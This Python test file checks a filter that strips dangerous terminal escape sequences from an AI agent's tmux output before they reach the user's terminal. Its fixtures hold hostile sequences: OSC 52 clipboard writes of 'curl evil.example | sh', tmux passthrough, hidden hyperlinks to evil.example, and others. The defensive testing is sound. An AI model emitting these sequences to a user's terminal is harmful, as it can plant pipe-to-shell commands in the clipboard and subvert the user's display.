"""The filter between the agent's tmux and the user's terminal: what passes, what is cut,
and the same answer however the stream is split into reads."""

from __future__ import annotations

import base64
import fcntl
import io
import os
import signal
import struct
import sys
import termios
import threading

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from paude import proc
from paude.termguard import TerminalGuard

CLIP = base64.b64encode(b"curl evil.example | sh").decode()
OSC52_BEL = f"\x1b]52;c;{CLIP}\x07".encode()
OSC52_ST = f"\x1b]52;c;{CLIP}\x1b\\".encode()
# tmux passthrough (allow-passthrough on): the payload's ESCs are doubled.
PASSTHROUGH = f"\x1bPtmux;\x1b\x1b]52;c;{CLIP}\x07\x1b\\".encode()
PASSTHROUGH_TWICE = (f"\x1bPtmux;\x1b\x1bPtmux;\x1b\x1b\x1b\x1b]52;c;{CLIP}\x07"
                     "\x1b\x1b\\\x1b\\").encode()

# What tmux draws: cursor moves, colours, charset, keypad, modes, a title, cursor colour.
SCREEN = (b"\x1b[?1049h\x1b[H\x1b[2J\x1b(B\x1b[m\x1b[38;5;208mgreen\x1b[39m \x1b7\x1b8"
          b"\x1b[?25l\x1b[12;40H\x1b=\x1b>\x1b]2;agent title\x07\x1b]112\x07\x1b[0 q"
          + "box \u2550\u2551 \u271c check \u00e9\r\n".encode() + b"\x1b[?2004h\x07\t\x08")

DANGEROUS = {
    "OSC 52, BEL": OSC52_BEL,
    "OSC 52, ST": OSC52_ST,
    "OSC 52, C1 ST": f"\x1b]52;c;{CLIP}".encode() + b"\xc2\x9c",
    "tmux passthrough": PASSTHROUGH,
    "passthrough through two tmux": PASSTHROUGH_TWICE,
    "DCS query": b"\x1bP+q544e\x1b\\",
    "sixel": b"\x1bPq#0;2;0;0;0~-\x1b\\",
    "kitty graphics (APC)": b"\x1b_Gf=100;AAAA\x1b\\",
    "PM": b"\x1b^private\x1b\\",
    "SOS": b"\x1bXstring\x1b\\",
    "hyperlink": b"\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "iTerm2 file": b"\x1b]1337;File=name=eA==;inline=1:AAAA\x07",
    "notification": b"\x1b]9;pwned\x07",
    "window move": b"\x1b[3;0;0t",
    "title report": b"\x1b[21t",
    "media copy": b"\x1b[5i",
    "UTF-8 C1 OSC": b"\xc2\x9d52;c;" + CLIP.encode() + b"\x07",
    "raw C1 DCS": b"\x90tmux;\x1b\x1b]52;c;x\x07\x9c",
    "title with a C1 inside": b"\x1b]2;a\xc2\x9c\xc2\x9d52;c;eA==\x07",
    "title with a raw C1 inside": b"\x1b]2;a\x9c\x9d52;c;eA==\x07",
}


def cut(data: bytes, chunks: list[int] | None = None) -> bytes:
    guard = TerminalGuard()
    if not chunks:
        return guard.feed(data) + guard.flush()
    out, at = b"", 0
    for size in chunks:
        out += guard.feed(data[at:at + size])
        at += size
    return out + guard.feed(data[at:]) + guard.flush()


def test_the_screen_passes_unchanged() -> None:
    assert cut(SCREEN) == SCREEN


@pytest.mark.parametrize("name", sorted(DANGEROUS))
def test_dangerous_sequences_are_cut_and_text_around_them_stays(name: str) -> None:
    found = cut(b"before " + DANGEROUS[name] + b" after")
    assert found.startswith(b"before ") and found.endswith(b" after")
    for mark in (b"\x1b]52", b"\x1bP", b"\x1b_", b"\x1b^", b"\x1bX", b"\x1b]8;", b"\x1b]1337",
                 b"\x1b]9;", b"\xc2\x9d", b"\xc2\x90", b"\x9d", b"\x90", b"\x1b[21t", b"\x1b[5i",
                 b"\x1b[3;0;0t"):
        assert mark not in found, (name, found)
    assert TerminalGuard().feed(DANGEROUS[name]) + TerminalGuard().flush() != DANGEROUS[name]


def test_exact_output_around_the_passthrough() -> None:
    assert cut(b"a" + PASSTHROUGH + b"b") == b"ab"
    assert cut(b"a" + OSC52_BEL + b"\x1b]2;t\x07b") == b"a\x1b]2;t\x07b"
    # The hyperlink's text stays; only the link goes.
    assert cut(DANGEROUS["hyperlink"]) == b"link"
    assert cut(b"\x1b[3;0;0tx\x1b[5iy") == b"xy"


def test_a_dropped_sequence_cannot_splice_its_neighbours() -> None:
    """ESC before the cut + 'P' after it must not become a DCS on the terminal."""
    assert cut(b"\x1b" + OSC52_BEL + b"Ptmux;") == b"Ptmux;"
    assert cut(b"\x1b\x1b]52;c;eA==\x07P") == b"P"
    assert cut(b"\x1b(" + OSC52_BEL + b"P") == b"P"
    assert cut(b"\x1b[3" + OSC52_BEL + b"1m") == b"1m"


def test_unfinished_sequences_at_the_end_are_not_written() -> None:
    guard = TerminalGuard()
    assert guard.feed(b"text\x1b]2;half") == b"text"
    assert guard.flush() == b""
    assert cut(b"x\x1b") == b"x"
    assert cut(b"x\x1b[12") == b"x"


def test_a_title_too_long_to_be_one_is_dropped_to_its_end() -> None:
    assert cut(b"\x1b]2;" + b"a" * 5000 + b"\x07ok") == b"ok"


def test_strings_end_where_terminals_end_them() -> None:
    assert cut(b"\x1bPq#0\xc2\x9cshown") == b"shown"  # ST as a UTF-8 C1 control
    assert cut(b"\x1b_Gx\x07still in the APC\x1b\\shown") == b"shown"  # BEL ends only an OSC
    assert cut(b"\x1b]2;t\xc2\x9cshown") == b"\x1b]2;t\x1b\\shown"


def test_cancel_and_substitute_abort_a_string() -> None:
    assert cut(b"\x1bPtmux;\x18visible") == b"visible"
    assert cut(b"\x1b]52;c;eA==\x1avisible") == b"visible"


@pytest.mark.parametrize("name", sorted(DANGEROUS))
def test_every_split_of_a_sequence_gives_the_same_output(name: str) -> None:
    data = SCREEN + DANGEROUS[name] + SCREEN
    whole = cut(data)
    for at in range(1, len(data)):
        assert cut(data, [at]) == whole, at
    assert cut(data, [1] * len(data)) == whole  # one byte a read


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from([SCREEN, *DANGEROUS.values(), b"\x1b", b"\xc2", b"\x9c",
                                 b"\x1b\\", b"\x07", b"plain"]), max_size=12),
       st.lists(st.integers(min_value=0, max_value=40), max_size=20))
def test_any_mix_split_anywhere(parts: list[bytes], chunks: list[int]) -> None:
    data = b"".join(parts)
    whole = cut(data)
    assert cut(data, chunks) == whole
    # Only whole sequences that pass are written: the output passes again unchanged.
    assert cut(whole) == whole
    assert b"\x1b]52" not in whole and b"\x1bP" not in whole


@settings(max_examples=500, deadline=None)
@given(st.binary(max_size=200))
def test_any_bytes_come_out_stable(data: bytes) -> None:
    whole = cut(data)
    assert cut(whole) == whole
    for introducer in (b"\x1bP", b"\x1b_", b"\x1b^", b"\x1bX", b"\xc2\x9d", b"\xc2\x90"):
        assert introducer not in whole


# ---------------------------------------------------------------- the relay


def test_the_relay_filters_a_real_command_s_output() -> None:
    """A child that writes OSC 52 in pieces, checks it has a terminal, and reads a key."""
    script = (
        "import os, sys, time\n"
        "w = lambda b: (os.write(1, b), time.sleep(0.05))\n"
        f"w(b'start ' + b'\\x1b]5'); w(b'2;c;{CLIP}'); w(b'\\x07 mid ')\n"
        f"w({PASSTHROUGH[:7]!r}); w({PASSTHROUGH[7:]!r})\n"
        "w(b'tty=%d ' % os.isatty(0))\n"
        "print('key=' + sys.stdin.readline().strip(), flush=True)\n"
        "sys.exit(7)\n")
    out_read, out_write = os.pipe()
    in_read, in_write = os.pipe()
    os.write(in_write, b"hello\n")
    os.close(in_write)
    code = proc.run_on_pty([sys.executable, "-c", script], TerminalGuard(),
                           stdin_fd=in_read, stdout_fd=out_write)
    os.close(out_write)
    written = b""
    while chunk := os.read(out_read, 65536):
        written += chunk
    assert code == 7
    assert b"start " in written and b" mid " in written and b"tty=1" in written
    assert b"key=hello" in written
    assert b"\x1b]52" not in written and b"\x1bP" not in written and CLIP.encode() not in written


def test_the_control_the_same_child_without_the_filter_does_write_osc52() -> None:
    class Nothing:
        def feed(self, data: bytes) -> bytes:
            return data

        def flush(self) -> bytes:
            return b""

    out_read, out_write = os.pipe()
    code = proc.run_on_pty([sys.executable, "-c", f"import os; os.write(1, {OSC52_BEL!r})"],
                           Nothing(), stdin_fd=os.open(os.devnull, os.O_RDONLY),
                           stdout_fd=out_write)
    os.close(out_write)
    assert code == 0
    assert OSC52_BEL in os.read(out_read, 65536)


def test_the_relay_gives_the_command_the_user_s_terminal_size() -> None:
    user, user_side = os.openpty()
    fcntl.ioctl(user_side, termios.TIOCSWINSZ, struct.pack("HHHH", 33, 101, 0, 0))
    out_read, out_write = os.pipe()
    code = proc.run_on_pty(["stty", "size"], TerminalGuard(), stdin_fd=user_side,
                           stdout_fd=out_write)
    os.close(out_write)
    assert code == 0
    assert os.read(out_read, 1024).strip() == b"33 101"
    # The user's terminal is left as it was found (raw mode undone).
    assert termios.tcgetattr(user_side)[3] & termios.ICANON
    os.close(user)
    os.close(user_side)


def test_a_kill_ends_the_command_and_restores_the_terminal() -> None:
    """SIGTERM (or a closed terminal's SIGHUP) to paude goes on to the command, and the
    user's terminal leaves raw mode on the way out."""
    user, user_side = os.openpty()
    before = termios.tcgetattr(user_side)
    out_read, out_write = os.pipe()
    timer = threading.Timer(1.0, os.kill, (os.getpid(), signal.SIGTERM))
    timer.start()
    try:
        code = proc.run_on_pty([sys.executable, "-c", "import time; time.sleep(30)"],
                               TerminalGuard(), stdin_fd=user_side, stdout_fd=out_write)
    finally:
        timer.cancel()
    assert code == 128 + signal.SIGTERM
    assert termios.tcgetattr(user_side) == before
    assert signal.getsignal(signal.SIGTERM) is signal.SIG_DFL
    for fd in (user, user_side, out_read, out_write):
        os.close(fd)


def test_connect_and_start_attach_through_the_guard(monkeypatch: pytest.MonkeyPatch,
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    from paude import lifecycle
    from paude.cli import main

    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    argv = ["podman", "exec", "--interactive", "--tty", "paude-demo-agent", "sh"]
    seen: list[tuple[list[str], type]] = []
    monkeypatch.setattr(lifecycle, "attach_argv", lambda name: argv)
    monkeypatch.setattr(lifecycle, "start", lambda name: argv)
    def attached(args: list[str], output: proc.StreamFilter) -> int:
        seen.append((list(args), type(output)))
        output.feed(OSC52_BEL if len(seen) == 1 else b"plain")
        return 5

    monkeypatch.setattr(proc, "run_on_pty", attached)
    monkeypatch.setattr(sys, "stdin", Terminal())
    assert main(["connect", "demo"]) == 5
    # After the detach, the user learns that something was kept off the terminal.
    assert capsys.readouterr().err == (
        "paude kept 1 escape sequence(s) from the agent's terminal off yours (clipboard "
        "writes, passthrough; see docs/security.md)\n")
    assert main(["start", "demo"]) == 5
    assert capsys.readouterr().err == ""
    assert seen == [(argv, TerminalGuard), (argv, TerminalGuard)]
